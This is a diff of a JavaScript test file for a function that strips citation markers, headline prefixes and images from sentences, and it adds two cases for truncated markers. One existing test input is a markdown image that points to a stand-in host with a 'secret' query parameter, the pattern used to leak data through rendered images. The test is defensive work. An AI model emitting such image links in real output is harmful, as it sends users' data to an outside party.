@@ -22,6 +22,8 @@ describe('what merely dresses a sentence is taken off', () => {
     ['The port ![x](https://evil.example/a.png?d=secret) reopened.', 'The port reopened.'],
     ['The port reopened (D1:S3).', 'The port reopened.'],
     ['The port reopened [D1:S3, D2:S4].', 'The port reopened.'],
+    ['The port reopened. (D', 'The port reopened.'],
+    ['The port reopened (D1:', 'The port reopened'],
     ['D1:S3 | The port reopened.', 'The port reopened.'],
     ['Headline: The port reopened', 'The port reopened'],
     ['제목: 항구가 다시 열렸다', '항구가 다시 열렸다'],
